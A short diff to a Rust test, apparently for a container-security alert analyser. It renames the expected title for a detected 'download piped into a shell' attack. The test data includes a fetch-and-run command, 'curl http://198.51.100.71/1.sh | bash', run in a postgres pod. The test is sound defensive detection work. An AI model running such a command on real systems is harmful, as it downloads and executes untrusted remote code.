@@ -52,7 +52,7 @@ fn an_attack_is_named_in_the_title_with_its_place_and_its_techniques() {
     );
     let analysis = analysed(&alert);
     assert_eq!(analysis.verdict.level, Level::Malicious);
-    assert_eq!(analysis.title, "Download piped to interpreter: sh in pod default/postgres-0");
+    assert_eq!(analysis.title, "Download piped into a shell: sh in pod default/postgres-0");
     assert!(analysis.summary.starts_with("`sh`, started by `postgres`, ran `sh -c curl http://198.51.100.71/1.sh | bash` as user postgres in container `postgres`"), "{}", analysis.summary);
     assert!(analysis.techniques.iter().any(|technique| technique.id == "T1105" && !technique.name.is_empty()));
     assert_eq!(analysis.explanations[0].likelihood, Likelihood::Likely);
